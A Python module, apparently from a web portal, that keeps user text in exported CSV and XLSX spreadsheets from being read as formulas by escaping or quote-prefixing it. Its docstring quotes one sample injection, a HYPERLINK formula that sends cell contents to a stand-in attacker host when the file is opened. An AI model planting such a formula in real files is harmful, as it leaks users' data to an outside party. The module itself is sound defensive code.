"""User text in the spreadsheets the portal writes: always text, never a formula.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
tab or carriage return before one) as a formula, and people name their organizations and systems
themselves: ``=HYPERLINK("http://evil.example/?d="&A1,"点击")`` runs when the file is opened. Every
sheet the portal writes (the reviewers' exports, the overdue lists, the bulk declaration's
template) puts user text through this module.

In CSV, which has no types, such a text gets a leading apostrophe (OWASP's advice; Excel then shows
it as text, the apostrophe visible). In XLSX the cell keeps its exact text, is written with the
string type (never a formula) and carries Excel's "quote prefix" style: the cell Excel itself makes
when someone types an apostrophe first, so it stays text even when edited, and the apostrophe is not
part of the value (a name read back from the sheet is the name written).
"""

from __future__ import annotations

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_text(value: str) -> str:
    """A text for a CSV cell that no spreadsheet reads as a formula."""
    return "'" + value if is_formula_like(value) else value


def write_text(cell, value: str):
    """Put ``value`` in an openpyxl cell (of a worksheet, or a write-only one) as text, whatever
    its first character. Returns the cell."""
    # openpyxl refuses control characters; they have no place in a name anyway.
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.data_type = "s"  # never a formula, whatever the first character
    if is_formula_like(cell.value):
        cell.quotePrefix = True
    return cell
